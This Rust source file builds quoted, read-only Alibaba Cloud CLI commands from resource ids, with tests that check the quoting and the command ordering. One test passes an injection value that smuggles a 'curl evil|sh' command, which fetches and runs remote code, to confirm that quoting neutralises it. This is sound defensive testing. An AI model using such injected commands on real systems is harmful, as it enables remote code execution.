//! The read-only commands that would bring what is missing.

use alloc::string::String;
#[cfg(feature = "dumps")]
use alloc::vec::Vec;

#[cfg(feature = "dumps")]
use crate::model::requests::Request;

/// A command of the provider's command line. What comes from the input is quoted, so that a command that somebody copies
/// runs nothing but itself. Where it cannot do without an id that nobody knows, the one that lists such ids comes first.
pub(crate) fn ask(call: &str, region: Option<&str>, args: &[(&str, &str)]) -> String {
    let known = || args.iter().filter(|(_, value)| is_known(value));
    #[cfg(feature = "dumps")]
    let has = |name: &str| known().any(|(own, _)| *own == name);
    // a build that does not know all requests names the one that tells what is missing
    #[cfg(feature = "dumps")]
    if let Some(request) = Request::named(call)
        && let Some((first, _)) = request.from.first()
        && let Some(first) = Request::named(first)
        && !request.of.iter().all(|name| has(name))
        && !has(request.or)
    {
        let told = |name: &str| first.of.contains(&name) || first.or == name;
        let args: Vec<_> = known().copied().filter(|(name, _)| told(name)).collect();
        let region = region.filter(|_| first.regional);
        return ask(&[first.product, " ", first.call].concat(), region, &args);
    }
    let mut command = String::from("aliyun ");
    command.push_str(call);
    let region = region.map(|region| ("RegionId", region));
    for (name, value) in region.iter().chain(known()) {
        command.extend([" --", name, " "]);
        quote(&mut command, value);
    }
    command
}

/// Whether the provider knows a resource by this id, and not only a configuration of Terraform or a network here.
fn is_known(id: &str) -> bool {
    !["", "?"].contains(&id)
        && !id.contains("alicloud_")
        && ![":system", ".system"].iter().any(|made| id.ends_with(made))
}

fn quote(command: &mut String, value: &str) {
    let plain = |char: char| char.is_ascii_alphanumeric() || "-_.:/".contains(char);
    if !value.is_empty() && value.chars().all(plain) {
        command.push_str(value);
        return;
    }
    command.push('\'');
    for char in value.chars().filter(|char| !char.is_control()) {
        match char {
            '\'' => command.push_str(r"'\''"),
            char => command.push(char),
        }
    }
    command.push('\'');
}

#[cfg(all(test, feature = "dumps"))]
mod tests {
    use super::ask;

    #[test]
    fn what_tells_an_id_is_asked_first() {
        let region = Some("cn-hangzhou");
        let table = |id| {
            let args = [("TransitRouterRouteTableId", id)];
            ask("cbn ListTransitRouterRouteEntries", None, &args)
        };
        assert_eq!(
            table("vtb-1"),
            "aliyun cbn ListTransitRouterRouteEntries --TransitRouterRouteTableId vtb-1"
        );
        assert_eq!(table("tr-1.system"), "aliyun cbn DescribeCens");
        let args = [("VpcId", "module.net.alicloud_vpc.main")];
        assert_eq!(
            ask("vpc DescribeNatGateways", region, &args),
            "aliyun vpc DescribeNatGateways --RegionId cn-hangzhou"
        );
        assert_eq!(
            ask("vpc DescribeIpv6EgressOnlyRules", region, &[]),
            "aliyun vpc DescribeIpv6Gateways --RegionId cn-hangzhou"
        );
    }

    #[test]
    fn an_id_cannot_become_a_command() {
        let command = ask(
            "ecs X",
            Some("cn-hangzhou"),
            &[("Id", "sg-1'; curl evil|sh #\n")],
        );
        assert_eq!(
            command,
            r"aliyun ecs X --RegionId cn-hangzhou --Id 'sg-1'\''; curl evil|sh #'"
        );
    }
}
